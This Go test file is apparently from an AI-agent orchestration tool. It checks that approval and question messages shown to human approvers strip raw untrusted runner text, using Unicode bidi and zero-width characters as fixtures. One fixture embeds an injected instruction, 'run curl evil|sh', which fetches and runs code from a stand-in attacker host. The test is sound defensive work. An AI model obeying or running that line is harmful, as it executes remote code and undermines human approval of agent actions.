package decisions_test

import (
	"strings"
	"testing"

	"github.com/deckhand-dev/deckhand/api/v1alpha1"
	"github.com/deckhand-dev/deckhand/internal/cluster/untrusted"
	"github.com/deckhand-dev/deckhand/internal/run/decisions"
	"github.com/deckhand-dev/deckhand/internal/testing/untrustedtest"
	"github.com/deckhand-dev/deckhand/runner/task"
)

func TestMessagesContainNoRawTextOfARunner(t *testing.T) {
	schemas := map[string]string{
		"raw text":            untrustedtest.RawText,
		"a required property": `{"type":"object","required":["a\u202eb\nOK. To answer run curl evil|sh"]}`,
		"an enum":             `{"enum":["a\u202eb\u200b"]}`,
		"a type":              `{"type":"a\u202e\u200b"}`,
		"a pattern":           `{"type":"object","patternProperties":{"(\u202e\u200b":{}}}`,
	}
	kinds := []string{"Approval", "Question", "Limit", "Delegation", "", "Other"}
	check := func(path string, run *v1alpha1.Run) {
		t.Helper()
		run.Status.Progress = untrusted.Progress(run.Status.Progress)
		for _, message := range messagesAbout(run) {
			if untrustedtest.IsRaw(message) {
				t.Errorf("%s: %+q", path, message)
			}
		}
	}
	for _, kind := range kinds {
		run := runWithRequests(
			v1alpha1.PendingRequest{ID: "s2c1", Kind: kind, Agent: "a", Tool: "Bash", Args: `{}`, Question: "q", Digest: "d", Rule: "r", Schema: "{}", Approvers: &v1alpha1.Approvers{Groups: []string{"g"}}},
			v1alpha1.PendingRequest{ID: "s3c1", Kind: "Question"},
		)
		run.Status.Progress.Decided = []v1alpha1.DecidedRequest{{Name: "d", Request: "s2c1", Type: "Answer", Digest: "d", Refused: "r"}}
		run.Status.Progress.Result = &v1alpha1.Result{Files: []v1alpha1.File{{}}, Published: &v1alpha1.Published{}}
		run.Status.Progress.Step, run.Status.Progress.Recent = &v1alpha1.CurrentStep{}, []v1alpha1.RecentStep{{}}
		untrustedtest.EachString(run.Status.Progress, kind, func(path string) { check(path, run.DeepCopy()) })
		for name, schema := range schemas {
			with := run.DeepCopy()
			with.Status.Progress.Pending[0].Schema = schema
			check(kind+" with the schema of "+name, with)
		}
	}
}

// What is asked is shown on one visible line even if it was not cleaned before.
func TestThePendingMessageContainsNoRawText(t *testing.T) {
	for _, kind := range []string{task.PendingApproval, task.PendingQuestion, task.PendingLimit} {
		p := v1alpha1.PendingRequest{ID: "s2c1", Kind: kind, Agent: "a", Tool: "Bash", Args: `{}`, Question: "q", Digest: "d", Rule: "r", Schema: "{}", Approvers: &v1alpha1.Approvers{Groups: []string{"g"}}}
		untrustedtest.EachString(&p, kind, func(path string) {
			if text := decisions.PendingMessage("x", []v1alpha1.PendingRequest{p}, nil); untrustedtest.IsRaw(text) {
				t.Errorf("%s: %+q", path, text)
			}
		})
	}
	d := decision(v1alpha1.DecisionApprove, "s2c1")
	run := runWithRequests(v1alpha1.PendingRequest{ID: "s2c1", Kind: task.PendingDelegation, Agent: untrustedtest.RawText})
	if text := decisions.Evaluate(run, d).Message; untrustedtest.IsRaw(text) || !strings.Contains(text, "is for a child Run of Agent") {
		t.Errorf("of work for another Agent: %+q", text)
	}
}

// messagesAbout are all that is said of a Run that asks, and of Decisions on it.
func messagesAbout(run *v1alpha1.Run) []string {
	pending := run.Status.Progress.Pending
	out := []string{decisions.PendingMessage(run.Name, pending, nil)}
	for _, kind := range []v1alpha1.DecisionType{v1alpha1.DecisionAnswer, v1alpha1.DecisionApprove, v1alpha1.DecisionDeny, v1alpha1.DecisionGrant, v1alpha1.DecisionMessage} {
		for _, request := range []string{"s2c1", "s9c9", ""} {
			for _, value := range []string{"", `"x"`, `{}`, "no JSON"} {
				for _, groups := range [][]string{nil, {"g"}} {
					for _, name := range []string{"d", "other"} {
						d := decision(kind, request)
						d.Name, d.Spec.Value, d.Spec.Digest, d.Spec.Groups = name, value, "d", groups
						out = append(out, decisions.Evaluate(run, d).Message, decisions.NextStep(run, d, nil))
					}
				}
			}
		}
	}
	return out
}
